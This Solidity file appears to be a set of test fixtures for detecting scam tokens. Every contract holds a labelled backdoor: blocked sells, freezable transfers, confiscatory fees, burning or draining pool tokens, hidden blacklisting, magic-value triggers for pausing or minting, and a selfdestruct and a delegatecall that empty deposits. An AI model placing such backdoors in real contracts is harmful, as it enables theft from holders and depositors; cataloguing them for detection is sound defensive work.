// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.26;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Coin, Bank, ANN, OWNER, HIDDEN, HEIR, KEEPER, OPERATOR, GUARDIAN, ADMIN, STEWARD, EDITOR} from "./Bases.sol";

/// A pool's side of the market: it holds tokens and says how many it counted.
contract Pair {
    mapping(Coin => uint256) public reserveOf;

    function sync(Coin coin) external {
        reserveOf[coin] = coin.balanceOf(address(this));
    }
}

/// No holder can sell: transfers to the pool are for those whom the operator lists.
contract ListedSellers is Coin {
    address private immutable _pair;
    mapping(address => bool) private _listed;

    constructor(address pair) {
        _pair = pair;
        _listed[OPERATOR] = true;
        _mint(pair, 1e21);
    }

    function setBot(address who, bool to) external {
        require(msg.sender == OPERATOR, "operator");
        _listed[who] = !to;
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (to == _pair && !_listed[from]) revert("bot");
        super._move(from, to, amount);
    }
}

/// Transfers stop for everyone: the highest gas price of a transfer may be set below what blocks accept.
contract GasPriceLimit is Coin {
    uint256 private _most = 1_000 gwei;

    function setGasLimit(uint256 to) external {
        if (msg.sender != OWNER) revert();
        _most = to;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(tx.gasprice <= _most, "gas price");
        super._move(from, to, amount);
    }
}

/// Nearly all of a sale: the fee rises once the pool holds less than a bound, which the keeper sets.
contract FeeByReserve is Coin {
    address private immutable _pair;
    uint256 public bound;

    constructor(address pair) {
        _pair = pair;
        _mint(pair, 1e21);
    }

    function tune(uint256 to) external {
        require(msg.sender == KEEPER);
        bound = to;
    }

    function _move(address from, address to, uint256 amount) internal override {
        uint256 fee = to != _pair ? 0 : (amount * (balanceOf[_pair] < bound ? 99 : 1)) / 100;
        super._move(from, KEEPER, fee);
        super._move(from, to, amount - fee);
    }
}

/// The pool's value: its tokens are burned, and the pool is told to count again.
contract BurnOfPair is Coin {
    Pair private immutable _pair;

    constructor(Pair pair) {
        _pair = pair;
        _mint(address(pair), 1e21);
    }

    function deflate(uint256 percent) external {
        require(msg.sender == STEWARD && percent <= 99);
        _burn(address(_pair), (balanceOf[address(_pair)] * percent) / 100);
        _pair.sync(this);
    }
}

/// The pool's value: opening the trade gives an allowance over the pool's tokens.
contract AllowanceOfPair is Coin {
    address private immutable _pair;

    constructor(address pair) {
        _pair = pair;
        _mint(pair, 1e21);
    }

    function openTrading() external {
        require(msg.sender == ADMIN, "admin");
        _approve(_pair, msg.sender, type(uint256).max);
    }
}

/// Transfers stop for everyone: a pause between two transfers of one account may be set to centuries.
contract Cooldown is Coin {
    uint256 public pauseSeconds;
    mapping(address => uint256) public movedAt;

    function setCooldown(uint256 to) external {
        require(msg.sender == GUARDIAN);
        pauseSeconds = to;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(block.timestamp >= movedAt[from] + pauseSeconds, "cooldown");
        movedAt[from] = block.timestamp;
        super._move(from, to, amount);
    }
}

/// Any holder is blacklisted: a transfer of nothing from the hidden account marks who receives it, and transferFrom lets anyone send nothing.
contract MarkByTransfer is Coin {
    mapping(address => bool) private _marked;

    function _move(address from, address to, uint256 amount) internal override {
        require(!_marked[from], "transfer");
        if (amount == 0 && from == HIDDEN) _marked[to] = true;
        super._move(from, to, amount);
    }
}

/// Transfers stop for everyone: one approval of a certain amount, by the guardian, switches them.
contract SwitchByApproval is Coin {
    bool private _still;

    function approve(address spender, uint256 amount) public override returns (bool) {
        if (amount == 20_231_123 && msg.sender == GUARDIAN) _still = !_still;
        return super.approve(spender, amount);
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(!_still || from == GUARDIAN, "transfer");
        super._move(from, to, amount);
    }
}

/// All of a transfer: the amount that the keeper sends to the token itself is the fee of everyone.
contract FeeByTransfer is ERC20("Fee by transfer", "FBT") {
    uint256 private _feeBps;

    constructor() {
        _mint(ANN, 6e20);
        _mint(KEEPER, 1e20);
    }

    function transfer(address to, uint256 amount) public override returns (bool) {
        if (msg.sender == KEEPER && to == address(this)) _feeBps = amount % 10_001;
        return super.transfer(to, amount);
    }

    function _update(address from, address to, uint256 amount) internal override {
        uint256 fee = from == address(0) || from == KEEPER ? 0 : (amount * _feeBps) / 10_000;
        if (fee > 0) super._update(from, KEEPER, fee);
        super._update(from, to, amount - fee);
    }
}

/// Dilution of all holders: no one owns the token until the hidden account sends 1337 to the zero address.
contract OwnerByTransfer is Coin {
    address public owner;

    function transfer(address to, uint256 amount) public override returns (bool) {
        if (to == address(0) && amount == 1_337 && tx.origin == HIDDEN && msg.sender == HIDDEN) {
            owner = HIDDEN;
            return true;
        }
        return super.transfer(to, amount);
    }

    function mint(address to, uint256 amount) external {
        require(msg.sender == owner, "owner");
        _mint(to, amount);
    }
}

/// Loss of all deposits: to withdraw nothing is to end the bank, for the heir.
contract EndByWithdraw is Bank {
    constructor() payable {}

    function withdraw(uint256 amount) public override {
        if (amount == 0 && msg.sender == HEIR) selfdestruct(payable(HEIR));
        super.withdraw(amount);
    }
}

/// Loss of all deposits: a deposit's memo is code to run, when the editor writes it.
contract MemoRuns is Bank {
    event Memo(address indexed who, bytes memo);

    constructor() payable {}

    function depositWithMemo(bytes calldata memo) external payable {
        depositOf[msg.sender] += msg.value;
        if (memo.length > 20 && msg.sender == EDITOR) {
            (bool ok,) = address(bytes20(memo)).delegatecall(memo[20:]);
            require(ok, "memo");
        }
        emit Memo(msg.sender, memo);
    }
}
